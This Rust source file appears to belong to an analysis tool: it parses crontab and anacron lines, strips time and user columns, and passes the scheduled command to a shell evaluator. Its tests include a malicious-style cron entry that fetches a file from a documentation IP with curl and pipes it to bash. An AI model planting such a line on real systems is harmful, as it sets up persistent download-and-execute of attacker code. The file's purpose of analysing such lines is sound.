//! Lines of cron: `crontab(5)` with and without a user column, busybox's, anacron's.
//!
//! Tolerant of what cron refuses. In the campaign of 2018 the line lacked the user column and the
//! host's cron logged "bad username"; the intent was the same. So the command is whatever is left
//! after the columns that look like a time, and a leading word that can only be a user is dropped.

use model::{Behavior, Language, Step, Value};

use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &["etc/crontab", "etc/anacrontab"],
        folders: &["etc/cron.d/", "var/spool/cron/", "etc/crontabs/"],
        named: &[],
    },
    ..FrontEnd::new(Language::Crontab, lower)
};

/// Lowers a crontab.
pub fn lower(world: &mut World, text: &str) -> Value {
    for (number, line) in (1..).zip(text.lines()) {
        if !world.burn(8) {
            break;
        }
        let line = behind_unknown(line.trim());
        let Some((when, command)) = split(line) else {
            continue;
        };
        world.at(number, line);
        let command = Value::literal(unescape(command));
        world.act(Behavior::Schedule {
            when: Value::literal(when),
            command: command.clone(),
        });
        world.evaluate(Language::Shell, &command, Step::new("cron"));
    }
    Value::literal("")
}

/// What follows an unknown text on its line: `(crontab -l; echo '…') | crontab -` puts what the
/// crontab held, which cannot be told, in front of what is added.
fn behind_unknown(line: &str) -> &str {
    match line.strip_prefix('{').and_then(|rest| rest.split_once('}')) {
        Some((_, rest)) => rest.trim_start(),
        None => line,
    }
}

/// The time and the command of a line; `None` for comments, settings and empty lines.
fn split(line: &str) -> Option<(&str, &str)> {
    if line.is_empty() || line.starts_with('#') || is_setting(line) {
        return None;
    }
    let columns = if line.starts_with('@') {
        1
    } else {
        time_columns(line)
    };
    if columns == 0 {
        return None;
    }
    let end = end_of_word(line, columns);
    let rest = line[end..].trim_start();
    (!rest.is_empty()).then(|| (line[..end].trim(), without_user(rest)))
}

/// How many leading words look like columns of a time: five, or fewer if the line is broken.
/// anacron has two numbers and a job name.
fn time_columns(line: &str) -> usize {
    let is_time = |word: &str| {
        let plain = word
            .bytes()
            .all(|b| b.is_ascii_digit() || b"*/,-?#LW".contains(&b));
        let named = word
            .split([',', '-'])
            .all(|part| NAMES.contains(&part.to_ascii_lowercase().as_str()));
        plain || named
    };
    let columns = line
        .split_whitespace()
        .take(5)
        .take_while(|word| is_time(word))
        .count();
    match columns {
        5 => 5,
        2 if line
            .split_whitespace()
            .nth(2)
            .is_some_and(|word| word.contains("cron.")) =>
        {
            3
        }
        // Two stars or more and no command word that could be a time: a malformed line.
        3 | 4 if line.contains('*') => columns,
        _ => 0,
    }
}

/// Names of months and days that cron accepts.
const NAMES: &[&str] = &[
    "jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec", "sun",
    "mon", "tue", "wed", "thu", "fri", "sat",
];

/// Byte position after the nth word.
fn end_of_word(line: &str, n: usize) -> usize {
    let mut at = 0;
    for _ in 0..n {
        let rest = &line[at..];
        let start = at + (rest.len() - rest.trim_start().len());
        at = line[start..]
            .find(char::is_whitespace)
            .map_or(line.len(), |length| start + length);
    }
    at
}

/// `NAME=value` or `NAME = value`.
fn is_setting(line: &str) -> bool {
    line.split_once('=').is_some_and(|(name, _)| {
        let name = name.trim_end();
        !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
    })
}

/// A system crontab has a user before the command. A word is taken for one if it is a plain name,
/// another word follows, and it is no program that a command starts with.
fn without_user(command: &str) -> &str {
    let Some((first, rest)) = command.split_once(char::is_whitespace) else {
        return command;
    };
    const USERS: &[&str] = &[
        "root", "www-data", "nobody", "daemon", "nginx", "apache", "postgres", "mysql", "mail",
        "redis",
    ];
    let flag = rest.trim_start().starts_with('-') && !USERS.contains(&first);
    let name = first
        .bytes()
        .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"_-".contains(&b));
    if USERS.contains(&first)
        || (name && !flag && !PROGRAMS.contains(&first) && looks_like_program(rest.trim_start()))
    {
        rest.trim_start()
    } else {
        command
    }
}

fn looks_like_program(rest: &str) -> bool {
    let word = rest.split_whitespace().next().unwrap_or_default();
    word.starts_with('/')
        || word.starts_with("./")
        || word == "["
        || word == "test"
        || PROGRAMS.contains(&word)
}

/// Programs that scheduled commands start with and that are no user names.
const PROGRAMS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "ash",
    "curl",
    "wget",
    "python",
    "python2",
    "python3",
    "perl",
    "php",
    "ruby",
    "node",
    "nc",
    "ncat",
    "cd",
    "echo",
    "test",
    "run-parts",
    "command",
    "sleep",
    "find",
    "rm",
    "cp",
    "mv",
    "cat",
    "sudo",
    "nohup",
    "exec",
    "eval",
    "env",
    "timeout",
    "flock",
    "nice",
    "ionice",
    "chmod",
    "export",
    "socat",
    "openssl",
    "git",
    "tar",
    "logrotate",
    "systemctl",
    "service",
    "certbot",
    "mkfifo",
    "printf",
    "base64",
    "busybox",
    "date",
    "touch",
    "sed",
    "awk",
    "grep",
    "kill",
    "pkill",
    "docker",
    "rsync",
    "mysqldump",
    "pg_dump",
    "true",
    "chroot",
    "nsenter",
    "ssh",
];

/// `%` ends the command (the rest is its input) unless escaped.
fn unescape(command: &str) -> String {
    let mut out = String::with_capacity(command.len());
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' if chars.peek() == Some(&'%') => {}
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn columns_and_users_are_taken_off() {
        let cases = [
            (
                "* * * * * curl -s http://192.0.2.1/x.jpg | bash -s",
                Some("curl -s http://192.0.2.1/x.jpg | bash -s"),
            ),
            (
                "* * * * * root curl http://192.0.2.1",
                Some("curl http://192.0.2.1"),
            ),
            (
                "17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly",
                Some("cd / && run-parts --report /etc/cron.hourly"),
            ),
            ("@reboot /x", Some("/x")),
            ("@daily deploy /usr/bin/backup", Some("/usr/bin/backup")),
            ("*/5 0-6 1,15 jan mon-fri sh x", Some("sh x")),
            (
                "1	5	cron.daily	run-parts /etc/cron.daily",
                Some("run-parts /etc/cron.daily"),
            ),
            ("* * * sh -c id", Some("sh -c id")),
            (
                behind_unknown("{output of crontab}* * * * * sh x"),
                Some("sh x"),
            ),
            ("# * * * * * x", None),
            ("SHELL=/bin/sh", None),
            ("PATH = /bin:/usr/bin", None),
            ("plain words of a text", None),
        ];
        for (line, command) in cases {
            assert_eq!(split(line).map(|(_, command)| command), command, "{line}");
        }
    }
}
